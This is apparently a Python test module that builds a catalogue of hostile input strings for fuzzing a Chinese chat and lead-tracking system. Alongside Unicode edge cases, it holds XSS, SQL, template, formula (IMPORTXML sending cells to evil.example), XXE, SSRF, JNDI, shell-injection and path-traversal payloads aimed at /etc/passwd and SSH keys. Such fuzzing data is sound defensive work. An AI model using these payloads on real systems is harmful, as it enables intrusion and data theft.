"""A catalogue of hostile strings, Chinese ones too: what people paste, and what attackers type.

`CATALOGUE` maps a name to a string. `python -m tests.hostile FILE` writes it as JSON for other projects. New
strings join a family below, or get one of their own; a name says what is hard about the string.
"""

from collections.abc import Iterable, Iterator

LONG = 10_000
BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
NO_WIDTH = (
    "\u200b\u200c\u200d\u2060\u2061\u2062\u2063\u2064\ufeff\u180e\u00ad\u034f\u115f\u1160\u3164\uffa0\u2800"
)
SPACES = "\u00a0\u1680\u2000\u2002\u2003\u2007\u2009\u200a\u2028\u2029\u202f\u205f\u3000\x85"
COMBINING = "\u0300\u0301\u0308\u0327\u0334\u0336\u0338\u0483\u0489\u0651\u0e49\u20d2\u20dd\u20e0\u20e3\ufe0f\ufe20\u3099"

# Surnames, given names and place names that old systems lose: extensions A to H, and the compatibility block.
RARE = (
    "㛃㬎㵚䶮䥽䴙𠅤𠙶𠮷𡈽𡋾𡘙𡟎𡶶𢒉𢙏𢡟𢧵𣇉𣗊𣜜𣲗𣲘𣸣𤋮𤧛𤩽𤫉𥔲𥕢𥖨𥻗𦈡𦒍𦙶𦝼𦭜𦰡𧿹𨐈𨙸𨚕𨟠𨭎𨱇𨱏𨺙𩽾𩾃𪟝𪣻𪤗𪨰𪨶𪩘"
    "𪾢𫄧𫄨𫄷𫄸𫇭𫌀𫍟𫍣𫍯𫍲𫍽𫏋𫐄𫐐𫐓𫑡𫓧𫓯𫓶𫔍𫔎𫔶𫖮𫖯𫖳𫗧𫗴𫘜𫘝𫘦𫘧𫘨𫘪𫘬𫚕𫚖𫚭𫛭𫞩𫟅𫟦𫟷𫟹𫟼𫠆𫠊𫠜𫢸𫫇𫭟𫭢𫭼𫮃𫰛𫵷𫶇𫷷"
    "𫸩𬀩𬀪𬂩𬃊𬇕𬇙𬇹𬉼𬊈𬊤𬌗𬍛𬍡𬍤𬒈𬒔𬒗𬕂𬘓𬘘𬘡𬘩𬘫𬘬𬘭𬘯𬙂𬙊𬙋𬜬𬜯𬞟𬟁𬟽𬣙𬣞𬣡𬣳𬤇𬤊𬤝𬨂𬨎𬩽𬪩𬬩𬬭𬬮𬬱𬬸𬬹𬬻𬬿𬭁𬭊𬭎𬭚𬭛𬭤𬭩𬭬"
    "𬭯𬭳𬭶𬭸𬭼𬮱𬮿𬯀𬯎𬱖𬱟𬳵𬳶𬳽𬳿𬴂𬴃𬴊𬶋𬶍𬶏𬶐𬶟𬶠𬶨𬶭𬶮𬷕𬸘𬸚𬸣𬸦𬸪𬹼𬺈𬺓𰃮𱁬𲎯"
)
NAMES_OF_PEOPLE = (
    "张三丰", "欧阳娜娜", "买买提·艾力", "古丽娜尔·阿不都热依木", "爱新觉罗·溥仪", "𠮷田太郎", "㛃㛃", "O'Brien 李", "李“小”龙", "null", "NULL",
    "undefined", "None", "True", "无", "空", "系统", "机器人", "system", "bot", "admin", "所有人", "王\u3000小\u3000明", "王　小明", "Ｗａｎｇ　Ｆａｎｇ",
    "卍", "卐", "〇", "々", "丶", "囍", "龘靐齉齾爩鱻麤", "⿰亻尔", "㊣", "㈱", "㎏", "㏎", "①②③", "Ⅷ", "ⅷ", "℡", "ﷺ", "ﷲ", "﷽", "꧅", "𒐫", "𒈙",
)  # fmt: skip
MARKUP = (
    "<script>alert(13371)</script>", "<ScRiPt>alert(13371)</sCrIpT>", "</script><script>alert(13371)</script>", "<img src=x onerror=alert(13371)>",
    "<img/src=x/onerror=alert(13371)//>", "<svg onload=alert(13371)>", "<svg><animate onbegin=alert(13371) attributeName=x>", "<body onload=alert(13371)>",
    "<iframe src=javascript:alert(13371)>", "<iframe srcdoc='<script>alert(13371)</script>'>", "<a href=javascript:alert(13371)>点我</a>",
    "<a href='&#106;avascript:alert(13371)'>x</a>", "<details open ontoggle=alert(13371)>", "<video><source onerror=alert(13371)>",
    "<input autofocus onfocus=alert(13371)>", "<marquee onstart=alert(13371)>", "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(13371)>",
    "\"><img src=x onerror=alert(13371)>", "'><img src=x onerror=alert(13371)>", "\" autofocus onfocus=alert(13371) x=\"", "' onmouseover='alert(13371)",
    "--><script>alert(13371)</script>", "]]><script>alert(13371)</script>", "<!--<img src=--><img src=x onerror=alert(13371)//", "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<meta http-equiv=refresh content='0;url=//evil.example'>", "<base href=//evil.example/>",
    "<form action=//evil.example><input type=submit>", "<object data=javascript:alert(13371)>", "<embed src=//evil.example/x.swf>", "<x onclick=alert(13371)>点</x>",
    "<font color=\"warning\">已付款</font>", "<font color='info'>系统通知</font>", "<b>加粗</b>", "<br>", "<hr/>", "<p>段落</p>", "<table><tr><td>1</td></tr></table>",
    "&lt;script&gt;alert(13371)&lt;/script&gt;", "&#60;img src=x&#62;", "&amp;amp;lt;", "&nbsp;&#x200b;", "＜script＞alert(13371)＜/script＞", "﹤img src=x onerror=alert(13371)﹥",
    "<scr\u200bipt>alert(13371)</script>", "<scr\x00ipt>alert(13371)</scr\x00ipt>", "<<script>alert(13371);//<</script>", "<img src=`x` onerror=`alert(13371)`>",
    "<template><script>alert(13371)</script></template>", "<noscript><p title=\"</noscript><img src=x onerror=alert(13371)>\">", "<select><option><script>alert(13371)</script>",
    "<a href=\"data:text/html,<script>alert(13371)</script>\">x</a>", "<div style=\"background:url(javascript:alert(13371))\">", "<isindex action=javascript:alert(13371) type=image>",
)  # fmt: skip
MARKDOWN = (
    "[点我](http://evil.example)", "[点我](javascript:alert(13371))", "![图](http://evil.example/x.png)", "[x]: http://evil.example", "<http://evil.example>", "**加粗**", "__强__",
    "*斜*", "~~删~~", "# 标题", "###### 小标题", "> 引用", ">>> 三层", "- 列表", "1. 编号", "```\n代码\n```", "`反引号`", "| a | b |\n|---|---|\n| 1 | 2 |", "---", "***", "===",
    "- [ ] 待办", "![](x\"onerror=\"alert(13371))", "[a](<javascript:alert(13371)>)", "\\*转义\\*", "正文\n# 假标题", "正文\n> 假引用", "正文\n---\n负责人：李雷",
    "[链接][1]\n\n[1]: http://evil.example", "http://evil.example/自动链接", "www.evil.example", "$$\\frac{1}{0}$$", ":smile:", "[微笑][OK]", "[Facepalm][捂脸]",
)  # fmt: skip
MENTIONS = (
    "<@all>", "<@ALL>", "<@zhangwei>", "<@ZhangWei>", "<@|all>", "@all", "@All", "@所有人", "@全体成员", "＠所有人", "＠all", "<＠all>", "＜@all＞", "<@\u200ball>", "<@all", "@all>", "<@@all>", "<@ all >",
    "@13812345678", "@manager4220", "@zhangwei", "@张伟", "<@张伟>", "<!channel>", "<!here>", "<#C024BE7LR>", "<@U024BE7LH>", "@everyone", "@here", "<userid=zhangwei>", "$userName=张伟$",
    "$departmentName=DEPARTMENT_ID$", "$userName=ZhangWei$", "<mention>all</mention>", "你好<@all>请看", "<@all><@all><@all>", "[@所有人](dingtalk://dingtalkclient/action/at?all=true)",
)  # fmt: skip
FORMULAS = (
    "=1+1", "=HYPERLINK(\"http://evil.example\",\"点我\")", "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "+cmd|' /C calc'!A0", "-1+1", "-2+3+cmd|' /C calc'!A0",
    "=IMPORTXML(CONCAT(\"http://evil.example/?\",A1:A9),\"//a\")", "=WEBSERVICE(\"http://evil.example\")", "=DDE(\"cmd\";\"/C calc\";\"x\")", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)",
    "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\u3000=1+1", "'=1+1", "\"=1+1", "\"\",=1+1", ",=1+1", ";=1+1", "|=1+1", "a\",=1+1,\"b", "a\n=1+1", "%0A=1+1", "=\u200b1+1", "\ufeff=1+1",
    "=1+1\";=1+1", "==1", "=", "+", "-", "@", "＝", "=A1:A999999", "=RTD(\"x\",,\"y\")", "=FILTERXML(\"<a/>\",\"//a\")",
)  # fmt: skip
ADDRESSES = (
    "javascript:alert(13371)", "JaVaScRiPt:alert(13371)", "java\tscript:alert(13371)", "\x01javascript:alert(13371)", "data:text/html,<script>alert(13371)</script>", "vbscript:msgbox(1)",
    "file:///etc/passwd", "ftp://evil.example", "//evil.example", "\\\\evil.example\\share", "http://127.0.0.1/", "http://[::1]/", "http://[::ffff:127.0.0.1]/", "http://169.254.169.254/latest/meta-data/",
    "http://metadata.google.internal/", "http://0x7f000001/", "http://2130706433/", "http://0177.0.0.1/", "http://localhost:8710/sim", "http://user:pass@evil.example@good.example/",
    "http://good.example#@evil.example/", "http://evil.example\\@good.example", "http://аррӏе.com/", "http://xn--80ak6aa92e.com/", "https://evil。example", "http://ｅｖｉｌ.example", "http://evil.example/%0d%0aSet-Cookie:x=1",
    "http://evil.example/" + "a" * 2000, "weixin://dl/business", "dingtalk://dingtalkclient/page/link?url=http://evil.example", "tel:110", "mailto:x@evil.example?subject=x%0d%0abcc:y@evil.example", "intent://x#Intent;end", "blob:x", "about:blank",
)  # fmt: skip
XML = (
    "]]>", "<![CDATA[x]]>", "<!DOCTYPE x [<!ENTITY a \"13371\">]><x>&a;</x>", "<!DOCTYPE x SYSTEM \"file:///etc/passwd\">", "<!ENTITY % x SYSTEM \"http://evil.example\">", "&xxe;", "<?xml version=\"1.0\"?>",
    "<?php echo 1337133713*7; ?>", "<xi:include href=\"file:///etc/passwd\"/>", "<a>" * 500, "<![CDATA[" * 50, "</xml><xml>", "<FromUserName>boss</FromUserName>", "</Content><Event>x</Event>", "<!-- -- -->", "&#0;", "&#xFFFF;", "&#55296;",
)  # fmt: skip
SQL = (
    "'", "''", "\"", "`", "\\", "';--", "' OR '1'='1", "' OR 1=1--", "\" OR \"\"=\"", "1; DROP TABLE leads", "'; DROP TABLE leads;--", "Robert'); DROP TABLE leads;--", "' UNION SELECT NULL--", "1' AND SLEEP(5)--",
    "'; SELECT pg_sleep(5);--", "'; ATTACH DATABASE 'x.db' AS x;--", "\\'; DROP TABLE leads;--", "%27%20OR%201=1", "admin'--", "1/0", "%", "_", "%%", "%_%", "[a-z]", "' || (SELECT 1) || '", "$$; DROP TABLE leads; $$", "E'\\x27'",
    "?", "? ?", ":name", "%s", "%(x)s", "%d%d%d", "$1", "{0}", "0x27", "CHAR(39)", "ＯＲ　１＝１", "’ OR ’1’=’1",
)  # fmt: skip
TEMPLATES = (
    "{{1337133713*7}}", "{{ config.items() }}", "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}", "${1337133713*7}", "#{1337133713*7}", "<%= 1337133713*7 %>", "{1337133713*7}", "{0.__class__.__init__.__globals__}", "{lead}", "{name}",
    "{who}", "{}", "{{", "}}", "{", "}", "%(lead)s", "${jndi:ldap://evil.example/a}", "${env:HOME}", "$(id)", "`id`", "; id", "| id", "&& id", "$HOME", "~root", "*", "?.*", "(a+)+$", "^(([a-z])+.)+[A-Z]([a-z])+$",
    "*{1337133713*7}", "@(1337133713*7)", "[[${1337133713*7}]]", "th:text=\"${1337133713*7}\"", "{{constructor.constructor('alert(13371)')()}}", "<#assign x=1337133713*7>${x}", "{% raw %}", "\\u007b\\u007b", "{{`13371`}}",
)  # fmt: skip
HEADERS = (
    "x\r\nSet-Cookie: a=b", "x\nLocation: //evil.example", "x\r\n\r\n<html>", "%0d%0aSet-Cookie:a=b", "x\x0bSet-Cookie: a=b", "嘊嘍Set-Cookie: a=b", "action=accepted lead=L1001", "\n2026-11-02 [error] action=violation lead=L1001",
    "\x1b[2J\x1b[H", "\x1b[31m红\x1b[0m", "\x1b]0;标题\x07", "\x1b]8;;http://evil.example\x1b\\点我\x1b]8;;\x1b\\", "\x07\x07\x07", "a\x08\x08\x08b", "a\rb", "a\r\n.\r\nQUIT",
)  # fmt: skip
COMMANDS = (
    "/lead", "/lead /lead /lead", "/undo", "/edit", "/edit L1001 电话 1", "/assign L1001 @张伟", "/off", "/on", "/cancel", "取消", "/无此命令", "／lead 张三", "/ lead", "//lead", "/lead\n/undo", "/lead\x00", "/LEAD", "/note L1001", "/visit L1001",
    "/status L99999999999999999999", "/status L-1", "/status L1001; /undo", "/edit L1001 owner boss", "/edit L1001 extra x", "/edit L1001 __class__ x", "/edit L1001 amount 9e999", "accept:L1001-1", "handback:L1001-1", "confirm:x", "undo:", "lead:L1001",
    "接单人：张伟", "负责人：李雷\n电话：110", "【系统】您的线索已被接单", "已接单 ✅", "姓名：张三 电话：13800000000", "姓名:\n电话:\n公司:", "L1001", "L1001 L1002 L1003",
)  # fmt: skip
NUMBERS = (
    "0", "-0", "1e309", "-1e309", "NaN", "Infinity", "-Infinity", "1/0", "0x1F", "0b1", "1_000", "1,000,000.00", "１２３", "一百二十三万亿", "壹佰萬圓整", "〇〇七", "٣٤٥", "१२३", "１３８００１３８０００", "+86 138 0013 8000", "0086-138-0013-8000",
    "13800138000" * 20, "9" * 400, "-" + "9" * 400, "0." + "0" * 400 + "1", "1" + "0" * 400, "99999999999999999999万亿", "1.7976931348623157e308", "2^63", "9223372036854775808", "-9223372036854775809", "18446744073709551616", "³²¹", "½", "Ⅻ万",
    "二〇二六年十三月四十五日", "2026-02-30", "下下下下下周三", "明天的昨天", "99999年后", "25:61", "零时零分", "每月31号", "-3天后", "1e9天后", "第1000000季度",
)  # fmt: skip
EMOJI = (
    "👨‍👩‍👧‍👦", "👩🏽‍💻", "🏳️‍🌈", "🏴‍☠️", "🏴󠁧󠁢󠁥󠁮󠁧󠁿", "🇨🇳", "🇨🇳🇨", "🇨", "👍🏿", "1️⃣", "#️⃣", "*️⃣", "❤️‍🔥", "🧑‍🤝‍🧑", "👁️‍🗨️", "🫠", "🪿", "😀" * 500, "👨‍👩‍👧‍👦" * 100, "🇨🇳" * 300, "\U0001f468\u200d", "\u200d\U0001f468", "👍🏿🏿🏿", "☎️", "☎︎", "㊗️", "🀄︎",
)  # fmt: skip
BROKEN = (
    "\ud800", "\udfff", "a\ud83d", "\ude00a", "\ud83d\ude00", "\udcff\udcfe", "\ufffe", "\uffff", "\U0001fffe", "\U0010ffff", "\ufdd0", "\ufffd", "\ue000", "\U000f0000", "\U000e0001", "\ufff9注\ufffa音\ufffb", "ÄÖÜäöüß", "锟斤拷", "烫烫烫", "鎷�", "å¼ ä¼Ÿ",
    "\\ud800", "\\u0000", "%00", "%u0000", "\\x00", "\\0", "é", "e\u0301", "ﬁ", "ſ", "K", "Å", "İ", "ı", "ß", "ẞ", "ΐ", "ŉ", "가", "가", "が", "が", "ﾊﾝｶｸ", "侮", "侮", "殺", "金", "⽟", "玉",
)  # fmt: skip
PATHS = (
    "../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "%2e%2e%2f",
    "/etc/passwd\x00.png",
    "C:\\",
    "CON",
    "NUL.txt",
    ".htaccess",
    "file\u202egnp.exe",
    "~/.ssh/id_rsa",
    "....//....//",
    "\\\\?\\C:\\",
    "/proc/self/environ",
    "a" * 300 + ".txt",
)
BLANK = (
    "",
    " ",
    "\t",
    "\n",
    "\r\n",
    "\u3000",
    "\u3000\u3000\u3000",
    "\n" * 50,
    " " * 50,
    "\u200b",
    "\u2800",
    "\u3164",
    "\ufeff",
)


def _family(name: str, strings: Iterable[str]) -> Iterator[tuple[str, str]]:
    for number, each in enumerate(strings, start=1):
        yield f"{name}-{number:03}", each


def _marked(name: str, signs: str, *ways: str) -> Iterator[tuple[str, str]]:
    """Each sign in each place: `{}` of a way stands for it."""
    for sign in signs:
        for number, way in enumerate(ways, start=1):
            yield f"{name}-{ord(sign):04x}-{number}", way.replace("{}", sign)


def _long() -> Iterator[tuple[str, str]]:
    for name, sign in (
        ("latin", "a"), ("chinese", "线"), ("rare", "𠮷"), ("emoji", "😀"), ("family", "👨‍👩‍👧‍👦"), ("space", " "), ("wide-space", "\u3000"), ("break", "\n"), ("word", "字 "), ("dash", "-"), ("digit", "1"),
        ("quote", '"'), ("brace", "{"), ("bracket", "["), ("paren", "("), ("angle", "<"), ("amp", "&"), ("slash", "/"), ("at", "@"), ("comma", "，"), ("period", "。"), ("phone", "13800138000 "), ("mail", "a@b.cn "),
        ("combining", "\u0301"), ("joiner", "\u200d"), ("bidi", "\u202e"), ("nul", "\x00"), ("week", "下周三"), ("money", "20万"), ("tag", "<b>"), ("star", "*"), ("tick", "`"), ("percent", "%s"), ("ten", "十"),
    ):  # fmt: skip
        yield f"long-{name}", (sign * LONG)[:LONG]
    yield "long-lines", "一行很长的话。" * 8 + "\n" * 200 + "完" * 500
    yield "long-mixed", "".join(chr(0x4E00 + number % 20_000) for number in range(LONG))


def _floods() -> Iterator[tuple[str, str]]:
    for count in (1, 3, 10, 100, 1000):
        yield f"flood-marks-{count}", "".join(sign + COMBINING[:4] * count for sign in "张伟")
    yield from _marked("flood", COMBINING, "王{}", "{}王", "王" + "{}" * 200 + "芳")


def _all() -> Iterator[tuple[str, str]]:
    for at in range(0, len(RARE), 2):
        yield f"rare-{ord(RARE[at]):05x}", f"王{RARE[at : at + 2]}"
    yield from _family("people", NAMES_OF_PEOPLE)
    yield from _marked("bidi", BIDI, "张{}伟", "{}张伟", "张伟{}", "1{}38{}0013{}8000")
    yield from _marked("nowidth", NO_WIDTH, "张{}伟", "{}张伟{}", "<{}@all>")
    yield from _marked("space", SPACES, "张{}伟", "{}张伟{}")
    yield from _marked("control", "".join(map(chr, [*range(32), *range(0x7F, 0xA0)])), "张{}伟")
    for name, strings in (
        ("markup", MARKUP), ("markdown", MARKDOWN), ("mention", MENTIONS), ("formula", FORMULAS), ("address", ADDRESSES), ("xml", XML), ("sql", SQL), ("template", TEMPLATES), ("header", HEADERS), ("command", COMMANDS),
        ("number", NUMBERS), ("emoji", EMOJI), ("broken", BROKEN), ("path", PATHS), ("blank", BLANK),
    ):  # fmt: skip
        yield from _family(name, strings)
    yield from _floods()
    yield from _long()


def _named() -> dict[str, str]:
    found: dict[str, str] = {}
    for name, each in _all():
        if name in found:
            raise ValueError(f"two strings are called {name}")
        found[name] = each
    return found


CATALOGUE = _named()
